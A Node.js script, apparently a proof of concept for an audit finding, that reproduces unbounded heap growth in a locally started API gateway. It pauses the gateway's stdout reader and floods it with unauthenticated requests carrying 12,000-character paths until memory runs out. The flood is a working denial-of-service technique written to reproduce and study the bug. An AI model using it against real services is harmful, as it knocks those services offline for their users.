// A3: the access log is written with process.stdout.write and its return value ignored. When whatever reads
// stdout stops reading (a stalled log shipper, journald stuck, `| sleep`), Node buffers every line in the
// gateway's heap without bound. An unauthenticated caller chooses each line's size (the path is logged).
// Run with an operator's heap cap (--max-old-space-size=64) and a reader that never reads.
import { startChaos, writeConfig, twoEndpointConfig, startGateway, sleep, exitOf, cleanup } from './lib.mjs';
import { readFileSync } from 'node:fs';
import http from 'node:http';
const rss = (pid) => { try { return (Number(readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+)/)[1]) / 1024).toFixed(0); } catch { return 'gone'; } };
const a = await startChaos('primary'); const b = await startChaos('backup');
const config = writeConfig(twoEndpointConfig(a.url, b.url));
const gw = await startGateway({ config, args: ['--access-log'], nodeFlags: ['--max-old-space-size=64'] });
let stderr = ''; gw.child.stderr.on('data', (c) => (stderr += c));
gw.child.stdout.pause(); // the reader stops reading
const pid = gw.child.pid;
console.log('gateway pid', pid, 'RSS', rss(pid), 'MiB; reader paused');
const agent = new http.Agent({ keepAlive: true, maxSockets: 16 });
const path = '/' + 'a'.repeat(12000); // no key, unknown route: answered 401/404 at once, logged with its path
const u = new URL(gw.url);
const once = () => new Promise((resolve) => {
  const req = http.request({ host: u.hostname, port: u.port, path, agent, method: 'GET' }, (res) => { res.resume(); res.on('end', () => resolve(res.statusCode)); });
  req.on('error', () => resolve('ERR')); req.setTimeout(3000, () => { req.destroy(); resolve('TIMEOUT'); });
  req.end();
});
const t0 = Date.now(); let n = 0; const statuses = {};
let dead = false; gw.child.once('exit', () => (dead = true));
const tick = setInterval(() => console.log(`t=${((Date.now() - t0) / 1000).toFixed(0)}s requests=${n} RSS=${rss(pid)} MiB statuses=${JSON.stringify(statuses)}`), 5000);
// ~16 concurrent, paced to at most ~1,000 req/s, for at most 90 s
const worker = async () => { while (!dead && Date.now() - t0 < 90000) { const s = await once(); statuses[s] = (statuses[s] ?? 0) + 1; n++; if (n % 16 === 0) await sleep(10); } };
await Promise.all(Array.from({ length: 16 }, worker));
clearInterval(tick);
const ex = await exitOf(gw.child, 2000);
console.log(`after ${((Date.now() - t0) / 1000).toFixed(0)} s, ${n} requests: gateway exit`, ex, 'RSS', rss(pid));
console.log('gateway stderr (first lines):', stderr.split('\n').filter((l) => /FATAL|heap|Mark|Scavenge|JavaScript/.test(l)).slice(0, 6).join('\n'));
console.log('statuses', statuses);
cleanup(); process.exit(0);
